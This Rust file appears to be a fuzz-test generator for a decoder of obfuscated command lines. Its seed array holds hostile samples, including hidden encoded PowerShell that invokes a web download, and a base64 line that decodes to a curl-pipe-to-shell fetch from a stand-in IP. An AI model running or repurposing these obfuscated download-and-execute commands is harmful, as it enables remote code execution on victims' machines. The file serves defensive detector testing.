//! Command lines that were encoded, badly.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use fastrand::Rng;
use vigie::domain::decoded::decoded;

use crate::hostile::noise;
use crate::hostile::spoilt;
use crate::readers::is_harmless;

const COMMANDS: [&[u8]; 5] = [
    b"powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==",
    b"p^ow^er^sh^ell -e \"dwBoAG8AYQBtAGkA\" | bash -c 'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo'",
    b"mshta %6a%61%76a%20script %TEMP%\\a %ce%b1%F0%9F%92%A9",
    b"&([char]73+[CHAR]0x45 + [char]88) [char]1114112",
    b"$z='H4sIAAAAAAACA/PUjHTVUPBLLdf1T8pKTS5RcAguSSwqcXYMCPZw9HXUUQgpSswrTk5MSwUASIRoCTAAAAA=' eJzLSM3JyQcABiwCFQ==",
];

pub(crate) fn text(dice: &mut Rng) -> Vec<u8> {
    let words = [
        "-enc ", "/e:", "^", "%41", "%e2%28", "[char]", "+", "=", "==", "AAAA", "H4sI", "eJz", "'",
    ];
    match dice.u8(0..8) {
        0 => noise(dice),
        1 => STANDARD.encode(noise(dice)).into_bytes(),
        2 => {
            let spoilt = spoilt(dice, &COMMANDS, &words);
            format!("-e {}", STANDARD.encode(spoilt)).into_bytes()
        }
        _ => spoilt(dice, &COMMANDS, &words),
    }
}

pub(crate) fn read(input: &[u8]) {
    let command = String::from_utf8_lossy(input);
    let Some(read) = decoded(&command) else {
        return;
    };
    assert!((1..=4).contains(&read.layers.len()));
    assert!(read.text.original().len() <= 64 << 10);
    assert_ne!(read.text.original(), command);
    assert!(!read.text.shown().contains(char::is_control));
    is_harmless(&read.how());
}
